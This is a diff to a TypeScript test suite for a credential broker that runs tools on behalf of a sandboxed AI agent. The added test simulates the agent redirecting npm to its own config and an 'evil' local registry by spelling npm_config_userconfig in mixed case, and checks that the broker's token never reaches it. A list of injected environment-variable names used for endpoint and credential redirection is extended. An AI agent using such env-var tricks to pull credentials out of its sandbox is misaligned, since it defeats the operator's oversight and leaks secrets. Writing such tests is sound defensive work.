@@ -167,7 +167,7 @@ describe("an attacker who is the sandboxed agent cannot make a tool print its cr
     const names = ["GODEBUG", "GH_BROWSER", "GH_EDITOR", "GH_PAGER", "KUBE_EDITOR", "KUBECTL_EXTERNAL_DIFF", "Https_Proxy", "hTTP_pRoXy", "All_Proxy"];
     // gcloud takes every property as CLOUDSDK_<SECTION>_<NAME>; docker and the AWS CLI choose their
     // endpoint, context or profile (so which credential) by these names.
-    names.push("CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE", "CLOUDSDK_AUTH_DISABLE_SSL_VALIDATION", "DOCKER_CONTEXT", "DOCKER_TLS_VERIFY", "AWS_ENDPOINT_URL_S3", "AWS_PROFILE", "AWS_DEFAULT_PROFILE");
+    names.push("CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE", "CLOUDSDK_AUTH_DISABLE_SSL_VALIDATION", "DOCKER_CONTEXT", "DOCKER_TLS_VERIFY", "AWS_ENDPOINT_URL_S3", "AWS_PROFILE", "AWS_DEFAULT_PROFILE", "Npm_Config_userconfig");
     const r = await h.run({ tool: "env", args: [], cwd: "/", env: { HARMLESS: "yes", ...Object.fromEntries(names.map((n) => [n, "injected"])) } });
     expect(r.result).toMatchObject({ kind: "done", exitCode: 0 });
     const env = r.stdout.toString();
@@ -283,5 +283,61 @@ describe.skipIf(!existsSync(GCLOUD))("an attacker who is the sandboxed agent can
     expect(atProxy).toEqual([]);
     // Control: the credentialed request was made, to the operator's API.
     expect(atApi).toContain(`Bearer ${TOKEN}`);
+  }, 90_000);
+});
+
+const NPM = "/usr/bin/npm";
+
+describe.skipIf(!existsSync(NPM))("an attacker who is the sandboxed agent cannot point npm at a config of its own by spelling npm_config_ in another case", () => {
+  const TOKEN = "npm_broker-held-40e7c1";
+  let dir: string;
+  let registry: Server;
+  let evil: Server;
+  const atRegistry: string[] = [];
+  const atEvil: string[] = [];
+  let h: Harness;
+
+  const recorder = (seen: string[]): Server =>
+    createHttpServer((req, res) => {
+      seen.push(String(req.headers["authorization"]));
+      res.writeHead(404, { "content-type": "application/json" });
+      res.end('{"error":"not found"}');
+    });
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), "provenant-broker-npm-"));
+    registry = recorder(atRegistry);
+    evil = recorder(atEvil);
+    await Promise.all([registry, evil].map((s) => new Promise<void>((r) => s.listen(0, "127.0.0.1", r))));
+    const port = (s: Server): number => (s.address() as AddressInfo).port;
+    // The operator's npm: its own registry, whose token comes from the broker's credential.
+    writeFileSync(join(dir, "operator.npmrc"), `registry=http://127.0.0.1:${port(registry)}/\n//127.0.0.1:${port(registry)}/:_authToken=\${NPM_TOKEN}\n`, { mode: 0o600 });
+    // What the sandbox writes in its workspace: its own registry, and the token sent there.
+    writeFileSync(join(dir, "sandbox.npmrc"), `registry=http://127.0.0.1:${port(evil)}/\n//127.0.0.1:${port(evil)}/:_authToken=\${NPM_TOKEN}\n`);
+    process.env["PROVENANT_TEST_NPM_TOKEN"] = TOKEN;
+    h = await startHarness({
+      credentials: { npm: { source: "env:PROVENANT_TEST_NPM_TOKEN" } },
+      tools: {
+        npm: {
+          binary: NPM,
+          timeout: "60s",
+          env: { NPM_TOKEN: "npm" },
+          forced_env: { npm_config_userconfig: join(dir, "operator.npmrc"), npm_config_cache: join(dir, "cache"), npm_config_update_notifier: "false" },
+        },
+      },
+    });
+  });
+  afterAll(async () => {
+    await h.close();
+    await Promise.all([registry, evil].map((s) => new Promise<void>((r) => s.close(() => r()))));
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it("Npm_Config_userconfig from the request is dropped (npm reads the prefix in any case): the token goes to the operator's registry only", async () => {
+    const r = await h.run({ tool: "npm", args: ["view", "left-pad", "version"], cwd: dir, env: { Npm_Config_userconfig: join(dir, "sandbox.npmrc") } });
+    expect(r.result).toMatchObject({ kind: "done" });
+    expect(atEvil).toEqual([]);
+    // Control: the credentialed request was made, to the operator's registry.
+    expect(atRegistry).toContain(`Bearer ${TOKEN}`);
   }, 90_000);
 });
